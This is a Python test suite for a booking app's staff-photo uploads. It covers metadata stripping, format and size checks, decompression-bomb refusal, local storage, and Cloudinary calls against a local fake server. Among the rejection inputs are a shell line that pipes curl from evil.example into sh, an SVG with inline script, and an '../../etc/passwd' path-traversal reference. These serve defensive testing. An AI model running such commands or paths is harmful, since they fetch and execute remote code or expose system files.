"""Staff photos: real JPEG/PNG/WebP accepted and re-encoded without metadata; forged files,
SVG, oversized files and decompression bombs refused; stored under the data folder, or in
Cloudinary through the official SDK against a local fake speaking Cloudinary's wire format."""

from __future__ import annotations

import hashlib
import io
import json
import struct
import threading
import zlib
from email.parser import BytesParser
from email.policy import HTTP
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qsl

import pytest
from PIL import Image

from kaimen_core import bookings, config, db, media, privacy
from kaimen_core.exceptions import ValidationError
from kaimen_core.models import StaffMember
from kaimen_core.providers.media import CloudinaryMediaStore, LocalMediaStore, MediaUnavailable, media_store
from tests.factories import make_business, make_operator, rows


def photo(fmt: str = "JPEG", size=(64, 48), *, gps: bool = False, mode: str = "RGB") -> bytes:
    image = Image.new(mode, size, (200, 80, 40) if mode == "RGB" else (200, 80, 40, 128))
    out = io.BytesIO()
    kwargs = {}
    if gps:
        exif = Image.Exif()
        exif[0x010F] = "PhoneMaker"  # Make
        exif[0x8825] = {1: "N", 2: (51.0, 30.0, 0.0), 3: "W", 4: (0.0, 7.0, 0.0)}  # GPS: London
        kwargs["exif"] = exif.tobytes()
    image.save(out, format=fmt, **kwargs)
    return out.getvalue()


def png_header(width: int, height: int) -> bytes:
    """A PNG that claims ``width``×``height`` pixels (a decompression bomb's header)."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\x00" * 64)) + chunk(
        b"IEND", b"")


# --- validation ----------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["JPEG", "PNG", "WEBP"])
def test_real_photos_are_accepted_and_re_encoded_without_metadata(fmt):
    original = photo(fmt, gps=True)
    assert b"PhoneMaker" in original
    clean = media.clean_photo(original)
    assert b"PhoneMaker" not in clean.data
    reopened = Image.open(io.BytesIO(clean.data))
    assert reopened.format == fmt and reopened.size == (64, 48)
    assert not reopened.getexif()
    assert clean.name.endswith({"JPEG": ".jpg", "PNG": ".png", "WEBP": ".webp"}[fmt])
    assert len(clean.name.split(".")[0]) == 32 and clean.name != media.clean_photo(original).name


def test_transparency_is_kept_for_png():
    clean = media.clean_photo(photo("PNG", mode="RGBA"))
    assert Image.open(io.BytesIO(clean.data)).mode == "RGBA"


def test_large_photos_are_scaled_down():
    clean = media.clean_photo(photo("JPEG", (3200, 1600)))
    assert (clean.width, clean.height) == (1600, 800)


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"#!/bin/sh\ncurl http://evil.example | sh\n", "not an image Kaimen can read"),
        (b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "not an image Kaimen can read"),
        (b"GIF89a" + b"\x00" * 100, "not an image Kaimen can read"),
        (b"", "The file is empty"),
        (png_header(100_000, 100_000), "too many pixels"),
        (png_header(8000, 6000), "8000×6000 pixels; photos may have at most 40 megapixels"),
        (photo("JPEG", (400, 400))[:-200], "damaged or incomplete"),
    ],
    ids=["renamed-script", "svg", "gif", "empty", "decompression-bomb", "too-many-pixels", "truncated-jpeg"],
)
def test_anything_else_is_refused_with_a_clear_message(data, message):
    with pytest.raises(ValidationError, match=message):
        media.clean_photo(data)


def test_files_of_5_mb_or_more_are_refused():
    with pytest.raises(ValidationError, match=r"smaller than 5 MB \(5\.0 MB given\)"):
        media.clean_photo(photo("PNG") + b"\x00" * (5 * 1024 * 1024))


# --- storing: the offline twin ---------------------------------------------------------


def test_offline_photos_live_under_the_data_folder(database):
    tenant = make_business()
    owner = tenant.owner
    assert isinstance(media_store(), LocalMediaStore)
    with db.tenant_session(owner) as session:
        sam = bookings.create_staff(session, actor=owner, name="Sam")
        bookings.set_staff_photo(session, actor=owner, staff_id=sam, data=photo("JPEG", gps=True))
    [member] = rows(StaffMember, StaffMember.id == sam)
    assert member.photo_ref.startswith(f"local:b{owner.business_id}/")
    stored = config.get_settings().data_dir / "media" / member.photo_ref.removeprefix("local:")
    assert stored.is_file() and b"PhoneMaker" not in stored.read_bytes()
    with db.tenant_session(owner) as session:
        shown = bookings.staff_photo(session, actor=owner, staff_id=sam)
        assert Image.open(io.BytesIO(shown)).format == "JPEG"
        with pytest.raises(ValidationError, match="not an image"):
            bookings.set_staff_photo(session, actor=owner, staff_id=sam, data=b"<svg/>")
    assert rows(StaffMember, StaffMember.id == sam)[0].photo_ref == member.photo_ref  # unchanged
    with db.tenant_session(owner) as session:
        bookings.remove_staff_photo(session, actor=owner, staff_id=sam)
        assert bookings.staff_photo(session, actor=owner, staff_id=sam) is None
    assert not stored.exists()


def test_a_local_reference_cannot_escape_the_media_folder(tmp_path):
    store = LocalMediaStore(tmp_path)
    for ref in ("local:../../etc/passwd", "local:b1/../../x.jpg", "cloudinary:x"):
        with pytest.raises(ValidationError):
            store.display(ref)


# --- Cloudinary, through its SDK, against a local fake ------------------------------------


class FakeCloudinary(BaseHTTPRequestHandler):
    """Cloudinary's upload API: signed multipart upload and signed destroy."""

    secret = "SECRET"
    assets: dict[str, bytes]
    calls: list[tuple[str, dict[str, str]]]
    fail = False

    def log_message(self, *args) -> None:
        pass

    def _form(self) -> tuple[dict[str, str], bytes | None]:
        body = self.rfile.read(int(self.headers["Content-Length"]))
        content_type = self.headers["Content-Type"]
        if content_type.startswith("multipart/form-data"):
            message = BytesParser(policy=HTTP).parsebytes(
                f"Content-Type: {content_type}\r\n\r\n".encode() + body)
            fields, file = {}, None
            for part in message.iter_parts():
                name = part.get_param("name", header="content-disposition")
                if name == "file":
                    file = part.get_payload(decode=True)
                else:
                    fields[name] = part.get_content().strip() if hasattr(part, "get_content") else ""
            return fields, file
        return dict(parse_qsl(body.decode())), None

    def _signed(self, fields: dict[str, str]) -> bool:
        signed = {k: v for k, v in fields.items() if k not in ("file", "api_key", "signature", "resource_type")}
        payload = "&".join(f"{k}={v}" for k, v in sorted(signed.items())) + self.secret
        return fields.get("api_key") == "KEY" and hashlib.sha1(payload.encode()).hexdigest() == fields.get("signature")  # noqa: S324

    def _reply(self, status: int, body: dict) -> None:
        data = json.dumps(body).encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def do_POST(self) -> None:
        fields, file = self._form()
        self.calls.append((self.path, fields))
        if self.fail:
            return self._reply(500, {"error": {"message": "General Error"}})
        if not self._signed(fields):
            return self._reply(401, {"error": {"message": "Invalid Signature"}})
        if self.path == "/v1_1/demo-cloud/image/upload":
            self.assets[fields["public_id"]] = file
            return self._reply(200, {"public_id": fields["public_id"], "version": 1700000000, "format": "jpg",
                                     "secure_url": f"https://res.cloudinary.com/demo-cloud/{fields['public_id']}"})
        if self.path == "/v1_1/demo-cloud/image/destroy":
            found = self.assets.pop(fields["public_id"], None)
            return self._reply(200, {"result": "ok" if found is not None else "not found"})
        return self._reply(404, {"error": {"message": "Not found"}})


@pytest.fixture
def cloudinary(monkeypatch):
    handler = type("Handler", (FakeCloudinary,), {"assets": {}, "calls": [], "fail": False})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    monkeypatch.setenv("CLOUDINARY_URL",
                       f"cloudinary://KEY:SECRET@demo-cloud?upload_prefix=http://127.0.0.1:{server.server_port}")
    config.reset_settings()
    yield handler
    server.shutdown()
    server.server_close()
    monkeypatch.delenv("CLOUDINARY_URL")
    config.reset_settings()


def test_cloudinary_signed_upload_thumbnail_and_destroy(database, cloudinary):
    tenant = make_business()
    owner = tenant.owner
    assert isinstance(media_store(), CloudinaryMediaStore)
    with db.tenant_session(owner) as session:
        sam = bookings.create_staff(session, actor=owner, name="Sam")
        bookings.set_staff_photo(session, actor=owner, staff_id=sam, data=photo("JPEG", gps=True))
        url = bookings.staff_photo(session, actor=owner, staff_id=sam)
    [public_id] = cloudinary.assets
    assert public_id.startswith(f"kaimen/b{owner.business_id}/")
    assert b"PhoneMaker" not in cloudinary.assets[public_id]
    assert url.startswith("https://res.cloudinary.com/demo-cloud/image/upload/")
    assert "c_fill" in url and "w_320" in url and url.endswith(public_id)
    with db.tenant_session(owner) as session:  # a new photo replaces (and destroys) the old one
        bookings.set_staff_photo(session, actor=owner, staff_id=sam, data=photo("PNG"))
    assert len(cloudinary.assets) == 1 and public_id not in cloudinary.assets
    with db.tenant_session(owner) as session:
        bookings.remove_staff_photo(session, actor=owner, staff_id=sam)
    assert cloudinary.assets == {}
    assert [path.rsplit("/", 1)[1] for path, _ in cloudinary.calls] == ["upload", "upload", "destroy", "destroy"]


def test_a_cloudinary_failure_changes_nothing(database, cloudinary):
    tenant = make_business()
    owner = tenant.owner
    with db.tenant_session(owner) as session:
        sam = bookings.create_staff(session, actor=owner, name="Sam")
    cloudinary.fail = True
    with pytest.raises(MediaUnavailable, match="did not accept the photo"):
        with db.tenant_session(owner) as session:
            bookings.set_staff_photo(session, actor=owner, staff_id=sam, data=photo("JPEG"))
    assert rows(StaffMember, StaffMember.id == sam)[0].photo_ref is None


def test_the_fake_checks_signatures_as_cloudinary_does(cloudinary):
    store = CloudinaryMediaStore(f"cloudinary://KEY:WRONG@demo-cloud?upload_prefix={_prefix(cloudinary)}")
    with pytest.raises(MediaUnavailable, match="did not accept the photo"):
        store.save(media.clean_photo(photo()).data, folder="b1", name="0" * 32 + ".jpg")
    assert len(cloudinary.calls) == 1 and cloudinary.assets == {}


def _prefix(handler) -> str:
    import os

    return os.environ["CLOUDINARY_URL"].split("upload_prefix=", 1)[1]


def test_closing_a_business_destroys_its_staff_photos_at_cloudinary(database, cloudinary):
    tenant = make_business("Closing Photos")
    owner = tenant.owner
    with db.tenant_session(owner) as session:
        sam = bookings.create_staff(session, actor=owner, name="Sam")
        bookings.set_staff_photo(session, actor=owner, staff_id=sam, data=photo("JPEG"))
        privacy.request_closure(session, actor=owner, confirm_name="Closing Photos")
    assert len(cloudinary.assets) == 1
    operator, _ = make_operator()
    certificate = privacy.close_business(actor=operator, business_id=tenant.business_id)  # the real adapters
    assert cloudinary.assets == {}
    assert certificate["media"] == 1 and certificate["verified_remaining_rows"] == 0
